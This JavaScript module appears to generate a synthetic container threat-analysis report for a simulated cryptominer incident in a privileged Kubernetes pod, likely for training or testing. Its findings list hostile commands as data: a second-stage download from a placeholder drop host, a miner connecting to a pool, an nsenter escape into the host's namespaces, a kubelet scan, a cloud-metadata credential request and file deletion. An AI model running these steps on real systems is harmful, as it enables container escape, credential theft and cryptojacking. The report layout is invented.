import { DROP_HOST, DROP_IP, imageOf, METADATA_IP, MINER, POOL_IP, PODS, SECOND_POOL } from '../cast.mjs';

const { intruder } = PODS;

/**
 * A report of Aqua's dynamic threat analysis on the image of the privileged pod, run the day after. **The layout is a guess**:
 * none is public. Its clock is the sandbox's; part of what it shows is in the other logs (miner, pool, domain, escape), part is
 * not (a second pool, a scan of the kubelets' port).
 *
 * @returns {string} a JSON document
 */
export function dtaReport() {
  const at = (second) => `2026-10-15T13:20:${String(second).padStart(2, '0')}Z`;
  const report = {
    image: imageOf(intruder),
    digest: intruder.digest,
    registry: 'registry.example.net',
    dta_severity_score: 'critical',
    scan_started: at(0),
    scan_duration: 300,
    behaviors: [
      {
        category: 'Communication',
        name: 'Downloads a second stage',
        severity: 'medium',
        timestamp: at(4),
        mitre: { tactic: 'Command and Control', technique: 'T1105' },
        findings: [
          {
            pid: 11,
            process: 'wget',
            url: `http://${DROP_HOST}/x.sh`,
            domain: DROP_HOST,
            destination_ip: DROP_IP,
            port: 80,
          },
        ],
      },
      {
        category: 'Initial Execution',
        name: 'Executes a dropped binary',
        severity: 'high',
        timestamp: at(9),
        mitre: { tactic: 'Execution', technique: 'T1059.004' },
        findings: [
          {
            pid: 17,
            process: 'sh',
            command: `${MINER.path} -o ${POOL_IP}:3333 --tls`,
            file_path: MINER.path,
            sha256: MINER.sha256,
          },
        ],
      },
      {
        category: 'Communication',
        name: 'Connects to a mining pool',
        severity: 'high',
        timestamp: at(10),
        mitre: { tactic: 'Impact', technique: 'T1496' },
        findings: [{ pid: 17, process: 'kdevtmpfsi', destination_ip: POOL_IP, port: 3333 }],
      },
      {
        category: 'Communication',
        name: 'Asks for a second pool when the first is silent',
        severity: 'medium',
        timestamp: at(41),
        findings: [{ pid: 17, process: 'kdevtmpfsi', domain: SECOND_POOL }],
      },
      {
        category: 'Weaponization',
        name: 'Enters the namespaces of process 1',
        severity: 'critical',
        timestamp: at(55),
        mitre: { tactic: 'Privilege Escalation', technique: 'T1611' },
        findings: [{ pid: 23, process: 'nsenter', command: 'nsenter -t 1 -m -u -n -i -p sh' }],
      },
      {
        category: 'Propagation',
        name: 'Scans the node network for kubelets',
        severity: 'medium',
        timestamp: at(58),
        mitre: { tactic: 'Discovery', technique: 'T1046' },
        findings: [{ pid: 29, process: 'sh', destination_ip: '192.0.2.1', port: 10_250 }],
      },
      {
        category: 'Collection and Exfiltration',
        name: 'Asks the metadata service for credentials',
        severity: 'high',
        timestamp: at(59),
        mitre: { tactic: 'Credential Access', technique: 'T1552.005' },
        findings: [{ pid: 31, process: 'wget', destination_ip: METADATA_IP, port: 80 }],
      },
      {
        category: 'Weaponization',
        name: 'Removes its own files',
        severity: 'low',
        timestamp: '2026-10-15T13:21:30Z',
        mitre: { tactic: 'Defense Evasion', technique: 'T1070.004' },
        findings: [{ pid: 17, process: 'sh', command: 'rm -rf /tmp/.x' }],
      },
    ],
    iocs: [
      { type: 'sha256', value: MINER.sha256 },
      { type: 'ip', value: POOL_IP },
      { type: 'domain', value: DROP_HOST },
      { type: 'domain', value: SECOND_POOL },
    ],
    iois: [MINER.path],
  };
  return `${JSON.stringify(report)}\n`;
}
